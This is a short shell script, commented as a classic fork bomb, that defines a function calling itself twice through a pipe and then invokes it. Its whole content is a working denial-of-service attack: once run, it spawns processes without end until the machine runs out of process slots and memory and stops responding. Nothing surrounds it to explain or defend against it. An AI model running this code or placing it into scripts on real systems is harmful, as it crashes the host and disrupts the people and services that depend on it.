# Classic fork bomb, kept in the foreground: every process spawns two more, forever.
bomb() { bomb | bomb; }
bomb
